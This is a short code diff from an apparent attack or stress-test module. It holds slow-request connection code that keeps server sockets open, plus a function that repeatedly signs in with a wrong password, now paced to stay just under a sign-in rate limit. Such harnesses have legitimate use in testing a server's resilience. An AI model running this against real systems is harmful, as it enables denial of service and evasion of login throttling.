@@ -5,7 +5,8 @@ import { type Attack, keepOpen, type Target } from './sockets.ts';
 
 /** Pause between bytes: each byte resets an idle timeout, so that one alone never ends the request. */
 const TRICKLE_MS = 5_000;
-const AGAIN_MS = 100;
+/** With three connections of an address, 18 a minute: within the limit of sign-ins. */
+const GUESS_MS = 10_000;
 const SLOW = 1_000;
 
 const textOf = (...lines: string[]): string => lines.join('\r\n');
@@ -43,10 +44,10 @@ const readNothing = (bytes: string) => (socket: Socket) => {
   socket.pause();
 };
 
-/** Signs in with a wrong password, again as soon as it is answered. */
+/** Signs in with a wrong password, again and again. */
 function guess(socket: Socket): void {
   const text = textOf(...SIGN_IN, `content-length: ${GUESS.length}`, '', GUESS);
-  socket.on('data', () => setTimeout(() => socket.writable && socket.write(text), AGAIN_MS));
+  socket.on('data', () => setTimeout(() => socket.writable && socket.write(text), GUESS_MS));
   socket.write(text);
 }
 
